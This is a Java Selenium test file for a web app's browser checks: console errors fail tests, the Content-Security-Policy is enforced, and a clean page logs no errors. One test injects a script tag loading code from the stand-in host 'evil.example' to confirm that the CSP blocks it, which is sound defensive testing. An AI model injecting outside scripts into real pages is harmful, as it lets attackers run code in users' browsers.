package org.interlinea.browser;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import org.interlinea.support.DemoCorpusApp;
import org.junit.jupiter.api.Test;
import org.openqa.selenium.By;
import org.springframework.boot.test.web.server.LocalServerPort;

/** The check every browser test relies on: an error in the browser console fails the test. */
@DemoCorpusApp
class BrowserConsoleTest {

    @LocalServerPort
    int port;

    @Test
    void aConsoleErrorFailsTheTest() {
        Browser browser = Browser.open(port, "en-GB");
        browser.go("/login");
        browser.waitFor(By.id("vaadinLoginUsername"));
        ((org.openqa.selenium.JavascriptExecutor) browser.driver()).executeScript("console.error('Invalid array length')");
        assertThatThrownBy(browser::close).isInstanceOf(AssertionError.class).hasMessageContaining("Invalid array length");
    }

    /** The Content-Security-Policy is in force in the browser, and a violation fails a test like any error. */
    @Test
    void aScriptFromAnotherOriginIsRefused() {
        Browser browser = Browser.open(port, "en-GB");
        browser.go("/login");
        browser.waitFor(By.id("vaadinLoginUsername"));
        ((org.openqa.selenium.JavascriptExecutor) browser.driver()).executeScript(
                "const s = document.createElement('script'); s.src = 'https://evil.example/x.js';"
                        + " document.head.appendChild(s);");
        assertThatThrownBy(browser::close).isInstanceOf(AssertionError.class)
                .hasMessageContaining("Content Security Policy");
    }

    @Test
    void aCleanPageDoesNot() {
        Browser browser = Browser.open(port, "en-GB");
        browser.go("/login");
        browser.waitFor(By.id("vaadinLoginUsername"));
        assertThat(browser.consoleErrors()).isEmpty();
        browser.close();
    }
}
